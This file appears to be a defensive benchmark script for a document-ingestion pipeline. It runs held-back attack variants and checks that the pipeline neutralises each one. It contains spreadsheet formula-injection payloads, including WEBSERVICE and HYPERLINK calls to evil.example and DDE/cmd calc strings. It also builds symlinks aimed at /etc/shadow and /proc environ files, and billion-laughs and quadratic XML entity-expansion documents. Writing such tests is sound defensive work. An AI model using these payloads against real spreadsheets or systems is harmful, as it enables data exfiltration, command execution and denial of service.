"""Held-back variants of the issue-21 attack, run once and reported (not tuned for, not in tests/).

Other payloads, other formats and other link targets than tests/test_attack.py uses: formulas in
DOCX and HTML cells and in file names, links through chains and relative paths, in-place rewrites,
other control bytes and encodings, entity expansion in other parts and shapes.  Prints one line per
check: the variant, what was expected, what happened, and ``ok`` or ``FAIL``.

    .venv/bin/python benchmarks/attack_variants.py [--races 200]
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import os
import shutil
import sys
import tempfile
import threading
import zipfile
from pathlib import Path

import openpyxl

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from pipeline.batch import run_batch, walk_inputs  # noqa: E402
from pipeline.export import FORMULA_TRIGGERS, write_table  # noqa: E402
from pipeline.run import run_document  # noqa: E402
from pipeline.store import read_table  # noqa: E402

RAW = REPO / "data" / "raw"
SEED = RAW / "004_59fe58fd6413823e.txt"
OTHER = RAW / "002_be210f0cadcd6921.txt"
DOCX_SEED = REPO / "tests" / "data" / "docx" / "seed-002.docx"
PAYLOADS = ["=WEBSERVICE(\"http://evil.example/\"&A2)", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2",
            "-3+3+cmd|' /C notepad'!A0", "+IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
results: list[tuple[str, bool, str]] = []


def check(name: str, ok: bool, detail: str) -> None:
    results.append((name, ok, detail))
    print(f"{'ok  ' if ok else 'FAIL'} {name}: {detail}")


def sha16(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()[:16]


def docx_with(edit, out: Path, part: str = "word/document.xml") -> Path:
    src = zipfile.ZipFile(io.BytesIO(DOCX_SEED.read_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info.filename, edit(data.decode()).encode() if info.filename == part else data)
    out.write_bytes(buf.getvalue())
    return out


def formulas(work: Path) -> None:
    inputs = work / "formulas"
    inputs.mkdir()
    rows = "".join(f"<tr><td>{p} We will act {i}</td><td>{p}</td><td>{p}</td></tr>" for i, p in enumerate(PAYLOADS))
    (inputs / "cells.html").write_text(f"<html><body><table><tr><th>Action</th><th>Progress</th><th>Lead officer</th>"
                                       f"</tr>{rows}</table></body></html>", encoding="utf-8")

    def cell_payload(xml: str) -> str:
        first = xml.index("<w:t>") + len("<w:t>")
        return xml[:first] + "=HYPERLINK(&quot;http://evil.example&quot;,&quot;x&quot;) " + xml[first:]

    docx_with(cell_payload, inputs / "cell.docx")
    for name in ("+cmd.txt", "@SUM(A1).txt", "-2+3.txt"):
        shutil.copy(OTHER, inputs / name)
    out = work / "formulas-out"
    run_batch([inputs], out, workers=2, tag=False)
    for table in ("records", "documents"):
        rows_ = read_table(out, table)
        xlsx = work / f"{table}.xlsx"
        write_table(rows_, "xlsx", xlsx, sheet=table)
        cells = [c for row in openpyxl.load_workbook(xlsx)[table].iter_rows() for c in row]
        live = [c.value for c in cells if c.data_type == "f"]
        shown = sum(1 for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS))
        check(f"xlsx {table}: payloads in HTML/DOCX cells and file names", not live and shown > 0,
              f"{len(live)} formula cells, {shown} formula-like text cells kept as text")
        text = work / f"{table}.csv"
        write_table(rows_, "csv", text)
        with text.open(encoding="utf-8", newline="") as f:
            values = [v for r in csv.reader(f) for v in r]
        bare = [v for v in values if v.startswith(FORMULA_TRIGGERS)]
        quoted = sum(1 for v in values if v.startswith("'") and v[1:].startswith(FORMULA_TRIGGERS))
        check(f"csv {table}: same payloads", not bare and quoted > 0, f"{len(bare)} bare, {quoted} quoted")


def links(work: Path) -> None:
    inputs = work / "links" / "in"
    outside = work / "links" / "outside"
    (inputs / "deep" / "er").mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_bytes(OTHER.read_bytes() + b"\nCANARY-VARIANT\n")
    shutil.copy(SEED, inputs / "deep" / "real.txt")
    (outside / "hop.txt").symlink_to(inputs / "deep" / "real.txt")          # outside link back inside
    (inputs / "chain.txt").symlink_to(inputs / "deep" / "er" / "hop1.txt")
    (inputs / "deep" / "er" / "hop1.txt").symlink_to(secret)                 # inside -> inside -> outside
    (inputs / "deep" / "er" / "up.txt").symlink_to(Path("..") / ".." / ".." / "outside" / "secret.txt")
    (inputs / "via-outside.txt").symlink_to(outside / "hop.txt")             # inside -> outside -> inside
    (inputs / "cmdline.txt").symlink_to("/proc/self/cmdline")
    (inputs / "pid1-environ.txt").symlink_to("/proc/1/environ")
    (inputs / "shadow.txt").symlink_to("/etc/shadow")
    (inputs / "abs-inside.txt").symlink_to(inputs / "deep" / "real.txt")
    (inputs / "urandom.pdf").symlink_to("/dev/urandom")
    walk = walk_inputs([inputs])
    taken = sorted(p.name for p in walk.files)
    refused = {Path(s.path).name: s.reason for s in walk.skips}
    expected_taken = ["abs-inside.txt", "real.txt", "via-outside.txt"]
    check("link chains, relative escapes, /proc and /etc targets", taken == expected_taken,
          f"taken {taken}; not run: {sorted(refused)}")
    check("a device through a link stays refused as a device",
          refused.get("urandom.pdf") == "not a regular file: a character device", str(refused.get("urandom.pdf")))
    out = work / "links-out"
    run_batch([inputs], out, workers=2, tag=False)
    text = str(read_table(out, "documents").to_pylist()) + str(read_table(out, "records").to_pylist())
    check("no outside text in the dataset", "CANARY-VARIANT" not in text and "root:" not in text,
          f"{len(read_table(out, 'documents'))} documents")


def races(work: Path, tries: int) -> None:
    a, b = SEED.read_bytes(), OTHER.read_bytes()
    actions = {sha16(d): [r.action for r in run_document(p, tag=False).records] for d, p in ((a, SEED), (b, OTHER))}
    for how in ("in place (truncate and write)", "rename over"):
        path = work / f"race-{how[:5].strip()}.txt"
        path.write_bytes(a)
        stop = threading.Event()

        def rewrite(path: Path = path, how: str = how) -> None:
            n = 0
            while not stop.is_set():
                data = (a, b)[n % 2]
                if how.startswith("in place"):
                    with path.open("r+b") as f:
                        f.truncate(0)
                        f.write(data)
                else:
                    tmp = path.with_suffix(f".{n % 2}.tmp")
                    tmp.write_bytes(data)
                    os.replace(tmp, path)
                n += 1

        writer = threading.Thread(target=rewrite, daemon=True)
        writer.start()
        mixed = torn = whole = failed = 0
        try:
            for _ in range(tries):
                result = run_document(path, tag=False)
                doc = result.document
                if doc.doc_id in actions:
                    whole += 1
                    mixed += [r.action for r in result.records] != actions[doc.doc_id]
                elif doc.error_code:
                    failed += 1
                else:
                    torn += 1       # a partial version, hashed and parsed as the same bytes
        finally:
            stop.set()
            writer.join()
        check(f"rewrite race, {how}, {tries} tries", mixed == 0,
              f"{mixed} mixed; {whole} whole versions, {torn} partial versions read consistently, {failed} named errors")


def sniffing(work: Path) -> None:
    text = SEED.read_text(encoding="utf-8")
    cases = {
        "esc-sequences.txt": (text[:300] + "\x1b[31m" + text[300:600] + "\x1b[0m" + text[600:]).encode(),
        "del-and-bell.txt": (text[:50] + "\x07\x08" + text[50:]).encode(),
        "utf32-le.txt": text.encode("utf-32"),
        "utf16-be-bom.txt": ("\ufeff" + text).encode("utf-16-be"),
        "utf8-bom-nul.txt": ("\ufeff" + text[:80] + "\x00" + text[80:]).encode(),
    }
    for name, data in cases.items():
        (work / name).write_bytes(data)
        doc = run_document(work / name, tag=False).document
        check(f"readable text: {name}", doc.n_records == 21, f"{doc.n_records} records, {doc.error_code}, {doc.warnings[:1]}")
    refused = {
        "utf16-no-bom.txt": text.encode("utf-16-le"),
        "many-nuls.txt": text.encode()[:200] + b"\x00" * 400 + text.encode()[200:],
    }
    for name, data in refused.items():
        (work / name).write_bytes(data)
        doc = run_document(work / name, tag=False).document
        check(f"refused with the reason: {name}", doc.error_code == "E101" and "at offset" in (doc.error or ""),
              str(doc.error))


def entities(work: Path) -> None:
    lol = '<!ENTITY a "lolololololol">' + "".join(f'<!ENTITY {c} "{f"&{p};" * 12}">'
                                                  for p, c in zip("abcdefgh", "bcdefghi", strict=True))

    def in_header(xml: str) -> str:
        xml = xml.replace("?>", f"?><!DOCTYPE w:hdr [{lol}]>", 1)
        return xml.replace("<w:t>", "<w:t>&i;", 1) if "<w:t>" in xml else xml

    big = "x" * 60_000

    def quadratic(xml: str) -> str:
        xml = xml.replace("?>", f'?><!DOCTYPE w:document [<!ENTITY big "{big}">]>', 1)
        first = xml.index("<w:t>") + len("<w:t>")
        return xml[:first] + "&big;" * 2000 + xml[first:]

    def parameter(xml: str) -> str:
        decl = '<!ENTITY % p0 "x"><!ENTITY % p1 "%p0;%p0;%p0;%p0;">'
        return xml.replace("?>", f"?><!DOCTYPE w:document [{decl}]>", 1)

    made = [docx_with(in_header, work / "laughs-in-header.docx", "word/header1.xml"),
            docx_with(quadratic, work / "quadratic-blowup.docx"), docx_with(parameter, work / "parameter-entities.docx")]
    xhtml = work / "laughs.xhtml.html"
    xhtml.write_text(f'<?xml version="1.0"?><!DOCTYPE html [{lol}]><html xmlns="http://www.w3.org/1999/xhtml"><body>'
                     "<table><tr><th>Action</th></tr><tr><td>&i;</td></tr></table></body></html>")
    for path in (*made, xhtml):
        doc = run_document(path, tag=False).document
        check(f"entity expansion: {path.name}", doc.error_code == "E112", f"{doc.error_code} {doc.error}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--races", type=int, default=200)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        formulas(work)
        links(work)
        races(work, args.races)
        sniffing(work)
        entities(work)
    failed = [r for r in results if not r[1]]
    print(f"{len(results)} checks, {len(failed)} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
